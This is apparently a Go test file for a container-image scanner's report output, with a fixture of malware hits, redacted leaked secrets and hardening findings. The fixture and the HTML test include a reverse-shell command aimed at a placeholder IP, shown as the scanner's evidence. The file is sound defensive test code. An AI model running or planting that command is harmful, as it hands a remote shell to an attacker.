package report_test

import (
	"bytes"
	"strings"
	"testing"

	"tidewaiter/assess"
	"tidewaiter/hardening"
	"tidewaiter/image"
	"tidewaiter/inventory"
	"tidewaiter/malware"
	"tidewaiter/match"
	"tidewaiter/report"
	"tidewaiter/secret"
)

// smuggler is a shop with contraband of each kind: in files, deleted and not, in archives, in the configuration; some of it quieted.
func smuggler() *report.Report {
	r := gated()
	zero, one := 0, 1
	app := inventory.Place{Layer: &one, Instruction: "RUN npm ci", DockerfileLine: 7, Origin: inventory.OfApp}
	file := func(path string, class inventory.Class) inventory.Place {
		p := app
		p.Path, p.Class = path, class
		return p
	}
	hidden := inventory.Place{Path: "root/.aws/credentials", Layer: &zero, Instruction: "ADD rootfs.tar /", Origin: inventory.OfBase,
		Hidden: &inventory.HiddenBy{Layer: 1, Instruction: "RUN npm ci", How: inventory.Deleted}}
	r.Malware = &malware.Report{
		Engines: []malware.Engine{
			{Name: malware.Builtin, Version: "1", Rules: []malware.RuleSet{{Name: "rules", Version: "1", Count: 40}}},
			{Name: malware.ClamAV, Version: "1.0.7", Rules: []malware.RuleSet{{Name: "daily", Version: "27400", Date: "2026-10-31"}}, Unsearched: 2},
		},
		Hits: []malware.Hit{
			{ID: "malware:eicar", Engine: malware.Builtin, Rule: "eicar", Title: "the EICAR test file", Severity: match.High, Place: file("opt/samples/eicar.zip", inventory.Placed),
				Inside: "e/eicar.com", Digest: digest('2'), Size: 184, Why: "scanners take it for malware on purpose", Mend: "do not ship samples"},
			{ID: "malware:eicar", Engine: malware.Builtin, Rule: "eicar", Title: "the EICAR test file", Severity: match.High, Place: file("tmp/.x/update", inventory.Placed), Digest: digest('3'), Size: 68},
			{ID: "malware:reverse-shell", Engine: malware.Builtin, Rule: "reverse-shell", Title: "a reverse shell", Severity: match.High, Place: file("usr/local/bin/healthcheck.sh", inventory.Placed),
				Line: 2, Evidence: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Why: "it gives a shell to whoever listens there", Mend: "remove the file, and find out who put it there"},
			{ID: "malware:packed-program", Engine: malware.Builtin, Rule: "packed-program", Title: "a packed program that no package owns", Severity: match.Medium, Place: file("srv/tool", inventory.Placed),
				Quieted: &match.Quieted{By: "exception", Reason: "our own tool, packed by the build", Until: "2027-03-31"}},
		},
	}
	r.Secrets = &secret.Report{Detectors: "veles of osv-scalibr v0.5.3", Found: []secret.Secret{
		{ID: "secret:aws-access-key", Rule: "aws-access-key", Title: "an AWS access key with its secret", Severity: match.Critical, In: secret.InFile, Place: hidden, Line: 2,
			Redacted: "AKIA…", Extractable: true, Extract: "docker save, from layer 0", Why: "whoever has the image can use it", Mend: "revoke it, and give it to the build with RUN --mount=type=secret"},
		{ID: "secret:generic-password", Rule: "generic-password", Title: "a password", Severity: match.Medium, In: secret.InEnv, Place: app, Name: "DB_PASSWORD", Redacted: "hu…", Extractable: true,
			Extract: "docker inspect", Check: secret.Unchecked},
		{ID: "secret:private-key", Rule: "private-key", Title: "a private key", Severity: match.High, In: secret.InFile, Place: file("srv/shop/test/fixtures/key.pem", inventory.Placed), Line: 1, Redacted: "----…",
			Quieted: &match.Quieted{By: "test-key", Reason: "the key of a test suite that is published"}},
	}}
	r.Hardening = &hardening.Report{Findings: []hardening.Finding{
		{ID: "hardening:setuid", Check: "setuid", Title: "srv/tool runs with the rights of root", Severity: match.High, Place: file("srv/tool", inventory.Placed),
			Why: "a fault in it gives root to every user", Mend: "RUN chmod u-s /srv/tool"},
		{ID: "hardening:secret-env", Check: "secret-env", Title: "DB_PASSWORD is named like a secret", Severity: match.Medium, Subject: "DB_PASSWORD", Place: app,
			Why: "docker inspect shows it", Mend: "give it to the container when it starts"},
		{ID: "hardening:healthcheck", Check: "healthcheck", Title: "no HEALTHCHECK", Severity: match.Low, Why: "nobody notices that it hangs", Mend: "HEALTHCHECK CMD curl -f http://localhost/", Usual: true},
		{ID: "hardening:shell", Check: "shell", Title: "a shell is aboard", Severity: match.Low, Place: inventory.Place{Path: "usr/bin/sh", Layer: &zero, Origin: inventory.OfBase},
			Why: "an intruder can use it", Mend: "build on an image without one", Usual: true},
	}}
	r.Assessment.Goals = append(r.Assessment.Goals, assess.GoalResult{Name: "hardening/healthcheck", Verdict: assess.Fail, Reason: "no HEALTHCHECK", Step: "HEALTHCHECK CMD curl -f http://localhost/"})
	return r
}

func TestContrabandGolden(t *testing.T) {
	for name, o := range map[string]report.TextOptions{"smuggler.txt": {}, "smuggler-all.txt": {All: true, Width: 80}} {
		var b bytes.Buffer
		if err := report.Text(&b, smuggler(), o); err != nil {
			t.Fatal(err)
		}
		golden(t, name, b.Bytes())
	}
	for form, name := range map[string]string{"sarif": "smuggler.sarif", "gitlab": "smuggler.gitlab.json", "junit": "smuggler.junit.xml",
		"github": "smuggler.github.txt", "csv": "smuggler.csv", "markdown": "smuggler.md"} {
		golden(t, name, formOf(t, form, smuggler(), report.Options{Now: scanned()}))
	}
}

// Whatever the form, what is quieted says by whom, and what is found says where.
func TestContrabandKeepsToTheSchema(t *testing.T) {
	var b bytes.Buffer
	if err := report.JSON(&b, smuggler()); err != nil {
		t.Fatal(err)
	}
	if err := validate(b.Bytes()); err != nil {
		t.Error(err)
	}
	back, err := report.Read(&b)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Malware.Hits) != 4 || back.Secrets.Found[0].Hidden.Layer != 1 || !back.Hardening.Findings[2].Usual {
		t.Error("a stored report does not say what was found")
	}
}

// What most images do is a number on the first screen, unless the environment has made a goal of it.
func TestUsualHardeningDoesNotShout(t *testing.T) {
	r := smuggler()
	var b bytes.Buffer
	if err := report.Text(&b, r, report.TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if text := b.String(); !strings.Contains(text, "healthcheck") || strings.Contains(text, "shell,") || !strings.Contains(text, "1 usual finding") {
		t.Error(text)
	}
}

// What a rule found is explained like a vulnerability: where it is, who brought it, why it matters, what to do. Where it found nothing,
// the answer says whether anybody looked.
func TestExplainsContraband(t *testing.T) {
	unread := smuggler()
	unread.BlindSpots = append(unread.BlindSpots, image.BlindSpot{Kind: image.Unsearched, Where: "ClamAV", By: malware.ClamAV, Message: "2 files were not looked at: the daemon stopped"})
	unasked := smuggler()
	unasked.Secrets = nil
	for name, c := range map[string]struct {
		report *report.Report
		id     string
		answer match.Answer
	}{
		"malware":   {smuggler(), "malware:eicar", match.IsAffected},
		"secret":    {smuggler(), "secret:AWS-access-key", match.IsAffected},
		"quiet":     {smuggler(), "secret:private-key", match.IsQuieted},
		"hardening": {smuggler(), "hardening:healthcheck", match.IsAffected},
		"met":       {smuggler(), "hardening:onbuild", match.NotAffected},
		"clean":     {smuggler(), "malware:web-shell", match.NotAffected},
		"unread":    {unread, "malware:web-shell", match.CannotSay},
		"unasked":   {unasked, "secret:private-key", match.CannotSay},
	} {
		e, err := report.NewContrabandExplanation(c.report, c.id)
		if err != nil {
			t.Fatal(name, err)
		}
		if e.Answer != c.answer {
			t.Errorf("%s: %s: %s", name, e.Answer, e.Because)
		}
		var doc, text bytes.Buffer
		if err := e.JSON(&doc); err != nil {
			t.Fatal(err)
		}
		if err := validateAs(doc.Bytes(), "https://tidewaiter.dev/schema/explain-1.json"); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if err := e.Text(&text, report.TextOptions{}); err != nil {
			t.Fatal(err)
		}
		golden(t, "explain-contraband-"+name+".txt", text.Bytes())
	}
	if _, err := report.NewContrabandExplanation(smuggler(), "hardening:nonsense"); err == nil || !strings.Contains(err.Error(), "healthcheck") {
		t.Error("a check that does not exist is not told:", err)
	}
}

// The page shows all of it, what is usual and what is quieted too.
func TestHTMLShowsContraband(t *testing.T) {
	text := shown(t, formOf(t, "html", smuggler(), report.Options{}))
	for _, want := range []string{
		"malware:reverse-shell /usr/local/bin/healthcheck.sh:2 layer 1: RUN npm ci a reverse shell bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
		"MAL-2025-1 event-stream-pro 1.0.0", "secret:aws-access-key /root/.aws/credentials:2 layer 0, deleted in layer 1 but still shipped", "AKIA…",
		"1 that most images have", "hardening:shell", "exception: our own tool, packed by the build (until 2027-03-31)", "clamav 1.0.7 (daily 27400 of 2026-10-31)",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
}

// A trace names what each instruction brought, where it was looked for.
func TestTraceNamesContraband(t *testing.T) {
	trace := traced()
	layer := 3
	trace.Secrets = &secret.Report{Found: []secret.Secret{{ID: "secret:private-key", Severity: match.High, In: secret.InFile,
		Place: inventory.Place{Path: "app/id_rsa", Layer: &layer, Hidden: &inventory.HiddenBy{Layer: 4, How: inventory.Deleted}}, Line: 1}}}
	var b bytes.Buffer
	if err := report.TraceText(&b, trace, report.TraceOptions{}); err != nil {
		t.Fatal(err)
	}
	if want := "! /app/id_rsa:1  secret:private-key, deleted in layer 4, still in the image\n"; !strings.Contains(b.String(), want) {
		t.Error(b.String())
	}
}
